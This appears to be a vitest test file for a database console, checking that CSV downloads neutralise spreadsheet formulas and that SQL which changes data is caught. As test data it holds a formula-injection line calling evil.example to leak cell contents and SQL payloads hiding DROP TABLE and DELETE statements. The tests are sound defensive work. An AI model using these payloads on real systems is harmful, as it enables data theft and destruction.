import { http, HttpResponse } from 'msw'
import { beforeAll, describe, expect, it } from 'vitest'
import { clusterCall, makeTable, queryCount } from '#tests/cluster'
import { TEST_CLUSTER_URL } from '#tests/env'
import { server, useTestCluster } from '#tests/msw'
import { args, get, loginAsAdmin, post, responseFrom, unwrap } from '#tests/session'
import { action as resultAction, loader as resultLoader } from '../_console+/result'
import { loader as csvLoader } from './query-csv'
import { loader as rowsLoader } from './query-rows'

const cluster = useTestCluster()

let cookie: string

beforeAll(async () => {
  cookie = await loginAsAdmin()
  await makeTable('guards', 'events', [
    { timestamp: '2026-12-01T10:00:00Z', level: 'info', message: 'kept' },
    { timestamp: '2026-12-01T10:00:01Z', level: 'warn', message: 'kept too' },
  ])
})

/** The SQL of the user's queries the cluster receives while `run` runs (not the console's own reads). */
async function querySqls(run: () => Promise<unknown>): Promise<string[]> {
  const seen: string[] = []
  server.use(
    http.post(`${TEST_CLUSTER_URL}/query`, async ({ request }) => {
      if (new URL(request.url).searchParams.get('hdx_query_label') !== 'cluster-console')
        seen.push(await request.clone().text())
      return cluster().handler(request)
    }),
  )
  await run()
  return seen
}

/** The user's next query (not the console's own reads) gets `answer` instead of the cluster's. */
function answerNextQuery(answer: () => Response) {
  let isUsed = false
  server.use(
    http.post(`${TEST_CLUSTER_URL}/query`, ({ request }) => {
      if (isUsed || new URL(request.url).searchParams.get('hdx_query_label') === 'cluster-console')
        return cluster().handler(request)
      isUsed = true
      return answer()
    }),
  )
}

const download = (params: Record<string, string>) =>
  csvLoader(args(get(`/resources/query-csv?${new URLSearchParams(params)}`, cookie)))

const HYPERLINK = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
const GUARDED = `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`

describe('the CSV download guards formulas whatever format the SQL asks for (decision 095)', () => {
  it("cuts the statement's FORMAT CSVWithNames: the cluster answers rows and the cell is guarded", async () => {
    const sql = `SELECT '${HYPERLINK.replace(/'/g, "\\'")}' AS x, '=1+1' AS y FORMAT CSVWithNames`
    const sent = await querySqls(async () => {
      const response = await download({ sql })
      expect(response.status).toBe(200)
      expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="query-result.csv"')
      expect((await response.text()).split('\n')).toEqual(['"x","y"', `${GUARDED},"'=1+1"`, ''])
    })
    expect(sent).toHaveLength(1)
    expect(sent[0]).not.toMatch(/FORMAT/)
  })

  it('cuts hdx_query_output_format and default_format from SETTINGS, keeps the other settings', async () => {
    for (const sql of [
      "SELECT '=1+1' AS y SETTINGS hdx_query_output_format = 'CSVWithNames'",
      "SELECT '=1+1' AS y SETTINGS max_threads = 1, hdx_query_output_format = 'TSVRaw' FORMAT TSVRaw",
      "SELECT '=1+1' AS y FORMAT CSV SETTINGS default_format = 'CSV', hdx_query_output_format='CSV';",
    ]) {
      const response = await download({ sql })
      expect(await response.text(), sql).toBe(`"y"\n"'=1+1"\n`)
    }
  })

  it('ignores a format chosen in the options: the download is rows turned into a guarded CSV', async () => {
    const response = await download({ sql: "SELECT '@SUM(A1)' AS y", hdx_query_output_format: 'CSVWithNames' })
    expect(response.headers.get('Content-Type')).toMatch(/^text\/csv/)
    expect(await response.text()).toBe(`"y"\n"'@SUM(A1)"\n`)
  })

  it('leaves FORMAT inside a string or a comment alone, as the engine does', async () => {
    const sql = "SELECT 'x FORMAT CSV' AS y /* FORMAT TSV */ -- FORMAT CSVWithNames"
    const sent = await querySqls(async () =>
      expect(await (await download({ sql })).text()).toBe('"y"\n"x FORMAT CSV"\n'),
    )
    expect(sent).toEqual([sql])
  })

  it('refuses an answer in another format rather than passing it on unguarded', async () => {
    // a cluster that still answers CSV (a setting the console does not know of)
    answerNextQuery(
      () => new HttpResponse('"=1+1"\n', { headers: { 'content-type': 'text/csv', 'x-clickhouse-format': 'CSV' } }),
    )
    const refused = await download({ sql: "SELECT '=1+1'" })
    expect(refused.status).toBe(400)
    expect(await refused.text()).toMatch(/^The cluster answered in CSV, not in rows\./)
    // and without a format header the rows are still checked line by line: nothing unguarded comes out
    answerNextQuery(() => new HttpResponse('"x"\n"=1+1"\n'))
    const cut = await download({ sql: "SELECT '=1+1'" })
    await expect(cut.text()).rejects.toThrow(/did not answer in rows/)
  })

  it('keeps numbers of numeric columns as they are, and guards text that only looks like one', async () => {
    const sql = "SELECT toInt64(-5) AS n, -1.5e3 AS f, '+E1' AS t, '-1-1' AS u"
    expect(await (await download({ sql })).text()).toBe(`"n","f","t","u"\n-5,-1500,"'+E1","'-1-1"\n`)
  })
})

describe('the "changes data" check reads the statement as the engine does (decision 095)', () => {
  const attack = '-- /*\nALTER TABLE guards.events DELETE WHERE 1'
  const alterJobs = async () => {
    const answer = await clusterCall<{ count?: number } | unknown[]>('GET', '/config/v1/orgs/{org}/jobs/alter/')
    return Array.isArray(answer) ? answer.length : (answer.count ?? 0)
  }

  it('opening /result?sql=-- /*⏎ALTER… runs nothing and asks to confirm; nothing changed', async () => {
    const jobs = await alterJobs()
    const sent = await querySqls(async () => {
      const { data, status } = unwrap(
        await resultLoader(args(get(`/result?${new URLSearchParams({ sql: attack })}`, cookie))),
      )
      expect(status).toBe(200)
      expect(data).toMatchObject({ isChange: true, doubt: null, outcome: null })
      // the Run form's POST of it runs nothing either: its link asks to confirm
      const ran = await responseFrom(() => resultAction(args(post('/result', { sql: attack }, cookie))))
      expect(ran.headers.get('Location')).toBe(`/result?${new URLSearchParams({ sql: attack })}#result`)
      // nor the downloads and the grid's rows
      const csv = await download({ sql: attack })
      expect(csv.status).toBe(400)
      expect(await csv.text()).toMatch(/changes data/)
      const rows = await rowsLoader(args(get(`/resources/query-rows?${new URLSearchParams({ sql: attack })}`, cookie)))
      expect(rows.status).toBe(400)
    })
    expect(sent).toEqual([])
    expect(await alterJobs()).toBe(jobs)
    expect(await queryCount('SELECT count() FROM guards.events')).toBe(2)
  })

  it('asks to confirm what it cannot read for sure: several statements, an unclosed comment, an unknown word', async () => {
    for (const [sql, doubt] of [
      ['SELECT 1; DROP TABLE guards.events', 'several'],
      ['SELECT 1 PARALLEL WITH DROP TABLE guards.events', 'several'],
      ['SELECT 1e--5; DROP TABLE guards.events', 'several'],
      ['/* /* */ ALTER TABLE guards.events DELETE WHERE 1', 'unclosed'],
      ['WITH 1 AS a INSERT INTO guards.events SELECT now(), a, a', 'unknown'],
    ] as const) {
      const sent = await querySqls(async () => {
        const { data } = unwrap(await resultLoader(args(get(`/result?${new URLSearchParams({ sql })}`, cookie))))
        expect(data, sql).toMatchObject({ isChange: true, doubt, outcome: null })
        // Analysis runs EXPLAIN of the text: never of several statements
        const analysis = unwrap(
          await resultLoader(args(get(`/result?${new URLSearchParams({ sql, tab: 'analysis' })}`, cookie))),
        )
        if (doubt !== 'unknown') expect(analysis.data, sql).toMatchObject({ isChange: true, analysis: null })
        const csv = await download({ sql })
        expect(csv.status, sql).toBe(400)
      })
      expect(
        sent.filter((text) => !text.startsWith('EXPLAIN ')),
        sql,
      ).toEqual([])
    }
    expect(await queryCount('SELECT count() FROM guards.events')).toBe(2)
  })

  it('the confirmation is a POST: confirming runs the statement (the local cluster makes it an alter job)', async () => {
    const sql = 'ALTER TABLE guards.events DELETE WHERE 1 = 0'
    const jobs = await alterJobs()
    const confirmed = await responseFrom(() =>
      resultAction(args(post(`/result?${new URLSearchParams({ sql })}`, { intent: 'run-change', sql }, cookie))),
    )
    expect(confirmed.status).toBe(302)
    expect(await alterJobs()).toBe(jobs + 1)
  })

  it('still runs plain reads from a link', async () => {
    const { data } = unwrap(
      await resultLoader(
        args(
          get(
            `/result?${new URLSearchParams({ sql: '/* note */ -- x\n(SELECT count() AS n FROM guards.events)' })}`,
            cookie,
          ),
        ),
      ),
    )
    expect(data).toMatchObject({ isChange: false, outcome: { kind: 'rows', rows: [['2']] } })
  })
})
